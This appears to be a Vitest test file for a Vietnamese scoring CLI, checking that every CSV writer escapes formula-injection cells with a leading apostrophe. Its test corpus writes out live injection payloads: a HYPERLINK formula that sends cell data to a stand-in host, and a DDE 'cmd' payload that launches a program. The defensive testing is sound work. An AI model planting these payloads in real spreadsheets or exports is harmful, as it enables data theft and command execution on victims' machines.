/**
 * CSV injection (issue 21, item 7): a text cell that begins with "=", "+", "-", "@", a tab or a carriage return is
 * read by Excel as a formula. Every CSV writer passes its cells through one function, `csvCell`, which prefixes
 * such text with "'" (the OWASP rule) and leaves numbers alone, negative ones included.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { main } from '../../src/cli/main.js';
import { dossierSummaryCsv } from '../../src/cli/dossiers.js';
import { evaluate } from '../../src/engine/evaluate.js';
import { rank } from '../../src/ranking/rank.js';
import { officeTableCsv, officeTables } from '../../src/report/office-tables.js';
import { rowsCsv, traceRows, unitRows, warningRows } from '../../src/report/rows.js';
import { renderSipasCsv } from '../../src/report/sipas.js';
import { csvCell, renderCsv } from '../../src/report/table.js';
import { parseCsv } from '../../src/core/table.js';
import { computeIndices } from '../../src/sipas/indices.js';
import { importResponses } from '../../src/sipas/responses.js';
import { readQuestionnaire } from '../../src/io/survey-source.js';
import { readCalendar, summariseRecordFiles } from '../../src/io/dossier-source.js';
import { root } from '../support/paths.js';
import { CORPUS_CASES } from '../support/hostile-support.js';
import { criteriaDoc, makeEvidence, makeSet } from '../support/support.js';

/** The cells the OWASP rule is about, each a live formula (or a formula's start) if written as is. */
export const CSV_INJECTION_CORPUS = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("x")',
  '-',
  '+',
  '@',
] as const;

const tree = [
  {
    id: '1',
    title: '=Lĩnh vực 1',
    max: 10,
    children: [
      { id: '1.1', title: '@Tiêu chí', max: 10, rule: { kind: 'rate', numerator: 'onTime', base: 'resolved', whenBaseZero: 'full' } },
    ],
  },
];
const bands = {
  bands: {
    levels: [
      { id: 'tot', label: '=HYPERLINK("band")', min: 50, max: 100, maxInclusive: true },
      { id: 'kem', label: '-kém', min: 0, max: 50 },
    ],
  },
};

/** Every cell of every line of a CSV text, parsed back. */
function cellsOf(csv: string): string[] {
  if (csv.trim() === '') return [];
  const t = parseCsv(csv.replace(/^\uFEFF/, ''));
  return [...t.header, ...t.rows.flatMap((r) => r.cells.map((c) => (c === null ? '' : String(c))))];
}

/** No cell of `csv` starts with a formula trigger, unless it is a number. */
function expectNoFormula(csv: string): void {
  for (const cell of cellsOf(csv)) {
    if (/^[=+\-@\t\r]/.test(cell)) expect(cell, 'a text cell starting with a formula trigger').toMatch(/^[+-]?\d[\d.,]*$/);
  }
}

describe('csvCell: the one function every CSV writer uses', () => {
  it('the corpus has the size README counts', () => {
    expect(CSV_INJECTION_CORPUS.length).toBe(CORPUS_CASES['CSV injection cells (tests/hostile/csv-injection.test.ts)']);
  });

  it.each(CSV_INJECTION_CORPUS)('neutralises %j with a leading apostrophe', (s) => {
    const out = csvCell(s);
    // Quoted or not, the cell's content read back starts with "'".
    const back = cellsOf(`h\n${out}\n`)[1]!;
    expect(back).toBe(`'${s}`);
  });

  it('leaves numbers as numbers: negative, signed, decimal comma or point', () => {
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell('-1,5')).toBe('"-1,5"');
    expect(csvCell('-0.50')).toBe('-0.50');
    expect(csvCell('+3')).toBe('+3');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
    expect(csvCell('Như Quỳnh')).toBe('Như Quỳnh');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
  });
});

describe('every CSV writer neutralises formula text', () => {
  const set = makeSet(tree, bands);
  const ev = makeEvidence([
    { name: '=HYPERLINK("x")', measures: { onTime: 9, resolved: 10 } },
    { name: '-Xã', measures: { onTime: 1, resolved: 10 } },
    { name: '@Xã', measures: { onTime: 5, resolved: 10 } },
  ]);
  const ranking = rank(evaluate(set, ev, { trace: true }), set.ranking);

  it('score --format csv (renderCsv)', () => {
    const csv = renderCsv(ranking);
    expect(cellsOf(csv)).toContain(`'=HYPERLINK("x")`);
    expectNoFormula(csv);
  });

  it('report --format csv (office tables, unit, field, trace and warning rows)', () => {
    for (const t of officeTables(ranking, 'vi')) expectNoFormula(officeTableCsv(t));
    expect(cellsOf(officeTableCsv(officeTables(ranking, 'vi')[0]!))).toContain(`'=HYPERLINK("x")`);
    const cards = ranking.rows.map((r) => r.card);
    for (const csv of [rowsCsv(unitRows(ranking)), rowsCsv(traceRows(cards)), rowsCsv(warningRows(cards))]) expectNoFormula(csv);
    expect(cellsOf(rowsCsv(unitRows(ranking)))).toContain(`'@Xã`);
  });

  it('sipas --format csv (renderSipasCsv): unit codes as the responses wrote them', () => {
    const fx = readFileSync(join(root, 'fixtures/van-lam-2021/survey/responses-2021.csv'), 'utf8').split('\n');
    // The first 30 respondents of chi-dao, their unit renamed to a formula.
    const text = [fx[0], ...fx.slice(1, 31).map((l) => l.replace(',chi-dao,', ',"=HYPERLINK(""x"")",'))].join('\n');
    const q = readQuestionnaire(join(root, 'questionnaires/van-lam-commune-2021.yaml'));
    const { tally } = importResponses(q, parseCsv(text), { unitColumn: 'xa' });
    const csv = renderSipasCsv(computeIndices(q, tally));
    expect(cellsOf(csv)).toContain(`'=HYPERLINK("x")`);
    expectNoFormula(csv);
  });

  it('dossiers --format csv (dossierSummaryCsv): groups by unit names as the export wrote them', async () => {
    const fx = readFileSync(join(root, 'fixtures/van-lam-2021/ho-so-mot-cua-2021.csv'), 'utf8').split('\n');
    const dir = mkdtempSync(join(tmpdir(), 'par-index-csv-'));
    const f = join(dir, 'ho-so.csv');
    writeFileSync(f, [fx[0], ...fx.slice(1, 21).map((l) => l.replace(/,UBND [^,]*$/, ',=HYPERLINK(x)'))].join('\n'));
    const s = await summariseRecordFiles([f], { calendar: readCalendar('vn'), period: { from: '2020-12-01', to: '2021-12-31' } });
    const csv = dossierSummaryCsv(s);
    expect(cellsOf(csv)).toContain(`'=HYPERLINK(x)`);
    expectNoFormula(csv);
  });

  it('par-index score … --format csv with a unit named =HYPERLINK("x"): the cell starts with \'', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'par-index-csv-'));
    writeFileSync(join(dir, 'set.yaml'), stringify(criteriaDoc(tree, bands)));
    writeFileSync(
      join(dir, 'ev.yaml'),
      stringify({
        format: 'par-index/evidence@1',
        year: 2021,
        source: 'Báo cáo thử',
        units: [{ id: 'x1', name: '=HYPERLINK("x")', measures: { onTime: 9, resolved: 10 } }],
      }),
    );
    const out: string[] = [];
    const code = await main(['score', join(dir, 'set.yaml'), join(dir, 'ev.yaml'), '--format', 'csv'], {
      out: (s) => out.push(s),
      err: () => {},
    });
    expect(code).toBe(0);
    const csv = out.join('\n');
    const row = parseCsv(csv).rows[0]!.cells.map(String);
    expect(row[2]).toBe(`'=HYPERLINK("x")`);
    expect(row[0]).toBe('1');
    expectNoFormula(csv);
    // A band label with a formula is a cell too (score's CSV writes the band id; the office table writes the label).
    expect(readFileSync(join(dir, 'set.yaml'), 'utf8')).toContain('HYPERLINK');
  });
});
